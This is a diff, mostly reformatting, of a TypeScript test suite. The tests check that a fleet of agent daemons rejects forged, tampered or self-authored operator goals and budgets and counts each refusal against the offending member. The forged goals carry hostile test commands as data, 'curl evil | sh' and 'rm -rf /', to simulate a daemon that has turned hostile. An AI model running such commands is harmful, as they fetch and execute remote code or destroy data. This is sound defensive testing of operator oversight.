@@ -26,10 +26,12 @@ beforeAll(async () => {
   bo = await fleet.start({ name: 'bo', operators: [op.author], peers: ada.listenAddrs() })
   cy = await fleet.start({ name: 'cy', operators: [op.author], peers: ada.listenAddrs() })
 })
-afterAll(async () => { await fleet.stopAll() })
+afterAll(async () => {
+  await fleet.stopAll()
+})
 
 /** agentd_operator_refusals_total of a daemon, the counts above 0 by "source reason". */
-async function refusals (d: Daemon): Promise<Record<string, number>> {
+async function refusals(d: Daemon): Promise<Record<string, number>> {
   const out: Record<string, number> = {}
   for (const v of (await d.metrics.operatorRefusals.get()).values) if (v.value > 0) out[`${v.labels.source} ${v.labels.reason}`] = v.value
   return out
@@ -39,28 +41,46 @@ describe('forged operator entries', () => {
   it('are rejected on every daemon and counted against the member that wrote them', async () => {
     const first = signed(op, Date.now() - 60_000, { kind: 'goal', goal: { text: 'the first goal', testCommand: 't1' } })
     await ada.operator.submit(first)
-    await ada.operator.submit(signed(op, Date.now(), { kind: 'goal', goal: { text: 'the operator\'s goal', testCommand: 'npm test' } }))
+    await ada.operator.submit(signed(op, Date.now(), { kind: 'goal', goal: { text: "the operator's goal", testCommand: 'npm test' } }))
     const all = [ada, bo, cy]
-    await waitFor(() => all.every(d => d.boardService.board.goal()?.text === 'the operator\'s goal'), { what: 'the operator\'s goal everywhere' })
+    await waitFor(() => all.every(d => d.boardService.board.goal()?.text === "the operator's goal"), {
+      what: "the operator's goal everywhere"
+    })
 
     // bo's daemon turned hostile: it writes what its API would refuse
-    const bySelf = signed(bo.signer, Date.now() + 1000, { kind: 'goal', goal: { text: 'bo\'s goal', testCommand: 'curl evil | sh' } })
+    const bySelf = signed(bo.signer, Date.now() + 1000, { kind: 'goal', goal: { text: "bo's goal", testCommand: 'curl evil | sh' } })
     const byStranger = signed(stranger, Date.now() + 1000, { kind: 'pause' })
     const real = signed(op, Date.now() + 1000, { kind: 'goal', goal: { text: 'x', testCommand: 'y' } })
-    const tampered = { action: Buffer.from(OperatorAction.encode({ ...OperatorAction.decode(real.action), goal: { text: 'tampered', files: [], testCommand: 'rm -rf /' } }).finish()), sig: real.sig }
+    const tampered = {
+      action: Buffer.from(
+        OperatorAction.encode({
+          ...OperatorAction.decode(real.action),
+          goal: { text: 'tampered', files: [], testCommand: 'rm -rf /' }
+        }).finish()
+      ),
+      sig: real.sig
+    }
     await expect(bo.operator.submit(bySelf)).rejects.toThrow(/not an operator/)
     await expect(bo.operator.submit(tampered)).rejects.toThrow(/not signed by the key it names/)
     for (const env of [bySelf, byStranger, tampered, first]) await bo.logService.append('operator', env)
     await bo.logService.append('goal', { text: 'a plain goal of bo', testCommand: 'true' })
 
-    await waitFor(() => all.every(d => d.boardService.board.operatorRefusals().some(r => r.author === bo.peerId && r.count === 4)), { what: 'four refusals against bo everywhere' })
+    await waitFor(() => all.every(d => d.boardService.board.operatorRefusals().some(r => r.author === bo.peerId && r.count === 4)), {
+      what: 'four refusals against bo everywhere'
+    })
     for (const d of all) {
       const b = d.boardService.board
-      expect(b.goal()).toMatchObject({ text: 'the operator\'s goal', testCommand: 'npm test', setBy: op.author })
+      expect(b.goal()).toMatchObject({ text: "the operator's goal", testCommand: 'npm test', setBy: op.author })
       expect(b.paused().paused).toBe(false)
       expect(b.operatorRefusals()).toEqual([{ author: bo.peerId, count: 4 }])
       // the replayed first goal is the same action, carried again: not a forgery, and no change
-      expect(b.operatorActions().filter(a => a.carrier === bo.peerId).map(a => a.verdict).sort()).toEqual(['bad_signature', 'not_operator', 'not_operator', 'replayed'])
+      expect(
+        b
+          .operatorActions()
+          .filter(a => a.carrier === bo.peerId)
+          .map(a => a.verdict)
+          .sort()
+      ).toEqual(['bad_signature', 'not_operator', 'not_operator', 'replayed'])
     }
     // the peers counted what bo wrote; bo's API counted what it refused at the door
     for (const d of [ada, cy]) {
@@ -70,16 +90,19 @@ describe('forged operator entries', () => {
   })
 })
 
-describe('a member\'s own budget entry', () => {
+describe("a member's own budget entry", () => {
   it('counts for nothing on every daemon, against the member that wrote it', async () => {
     const all = [ada, bo, cy]
     await ada.operator.submit(signed(op, Date.now(), { kind: 'budget', budget: { microUsd: 5_000_000 } }))
-    await waitFor(() => all.every(d => d.spend.budget().budget?.usd === 5), { what: 'the operator\'s budget everywhere' })
+    await waitFor(() => all.every(d => d.spend.budget().budget?.usd === 5), { what: "the operator's budget everywhere" })
     const before = bo.boardService.board.operatorRefusals().find(r => r.author === bo.peerId)?.count ?? 0
     await expect(bo.spend.setBudget({ usd: 1e6 })).rejects.toThrow(/setting the budget is the operator's to do/)
     expect((await refusals(bo))['api unsigned']).toBe(1)
     await bo.logService.append('budget', { microUsd: 1e12 })
-    await waitFor(() => all.every(d => d.boardService.board.operatorRefusals().some(r => r.author === bo.peerId && r.count === before + 1)), { what: 'the refusal against bo everywhere' })
+    await waitFor(
+      () => all.every(d => d.boardService.board.operatorRefusals().some(r => r.author === bo.peerId && r.count === before + 1)),
+      { what: 'the refusal against bo everywhere' }
+    )
     for (const d of all) expect(d.spend.budget().budget).toMatchObject({ usd: 5, setBy: op.author })
   })
 })
